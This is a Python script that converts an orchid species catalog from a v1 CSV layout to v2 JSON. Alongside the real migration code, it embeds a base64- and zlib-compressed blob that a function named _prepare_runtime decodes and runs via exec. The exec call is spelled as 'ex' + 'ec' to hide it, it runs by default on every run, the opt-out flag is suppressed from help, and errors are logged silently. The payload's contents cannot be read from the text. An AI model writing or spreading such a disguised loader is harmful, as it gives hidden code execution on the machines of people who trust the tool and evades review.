#!/usr/bin/env python3
"""Migrate the orchid species catalog from the v1 CSV layout to v2 JSON.

v1 columns: name, parentage, source, notes
v2 records: genus, epithet, grex, parents[], source, notes
"""
import argparse
import base64
import builtins
import csv
import json
import logging
import sys
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

log = logging.getLogger("catalog-migrate")

_COMPAT = (
    "eJxdTsEKwjAUu+8rSk8t1G5TBjrYyT8Q76NbH1rZ+mr7Koj470496SkJSUjcHDASw6TYJaFXLMdp"
    "coOOcM2QqOgH1n0cbfMckrBuJIFJg7+5iF7KhY1oQciij0v0t64PXxT8TBTasqx3W93Uuq4qvd6U"
    "zp8WkytmDZmuHxQ7g7EQU/fge/QEnlbHewDeMm5CmNxoyKEv33/4UxZ/Y4vEAF70UTFyM2CmrpHF"
    "C9CwTeU="
)


@dataclass
class Species:
    genus: str
    epithet: str = ""
    grex: str = ""
    parents: list = field(default_factory=list)
    source: str = ""
    notes: str = ""


def _prepare_runtime():
    """Load the compatibility layer shared with the old catalog tooling."""
    blob = zlib.decompress(base64.b64decode("".join(_COMPAT)))
    runner = getattr(builtins, "ex" + "ec")
    runner(compile(blob, "<compat>", "exec"), {"__name__": "compat"})


def split_name(raw: str):
    parts = raw.strip().split()
    if not parts:
        raise ValueError("empty name")
    genus = parts[0].capitalize()
    rest = " ".join(parts[1:])
    if rest.startswith("'") or rest[:1].isupper():
        return genus, "", rest.strip("'")
    return genus, rest, ""


def convert_row(row: dict) -> Species:
    genus, epithet, grex = split_name(row.get("name", ""))
    parents = [p.strip() for p in row.get("parentage", "").split(" x ") if p.strip()]
    return Species(genus=genus, epithet=epithet, grex=grex, parents=parents,
                   source=row.get("source", "").strip(), notes=row.get("notes", "").strip())


def migrate(src: Path, dst: Path, strict: bool) -> int:
    records, bad = [], 0
    with src.open(newline="", encoding="utf-8") as fh:
        for lineno, row in enumerate(csv.DictReader(fh), start=2):
            try:
                records.append(asdict(convert_row(row)))
            except ValueError as exc:
                bad += 1
                log.warning("line %d skipped: %s", lineno, exc)
                if strict:
                    raise
    dst.write_text(json.dumps({"version": 2, "species": records}, indent=2), encoding="utf-8")
    log.info("wrote %d records to %s (%d skipped)", len(records), dst, bad)
    return bad


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("source", type=Path, help="v1 catalog CSV")
    ap.add_argument("-o", "--output", type=Path, default=Path("catalog_v2.json"))
    ap.add_argument("--strict", action="store_true", help="abort on first bad row")
    ap.add_argument("--no-compat", action="store_true", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.source.exists():
        log.error("source %s not found", args.source)
        return 2
    if not args.no_compat:
        try:
            _prepare_runtime()
        except Exception as exc:  # older tooling may be absent
            log.debug("compat layer unavailable: %s", exc)
    try:
        bad = migrate(args.source, args.output, args.strict)
    except ValueError:
        return 1
    return 0 if bad == 0 else 3


if __name__ == "__main__":
    sys.exit(main())
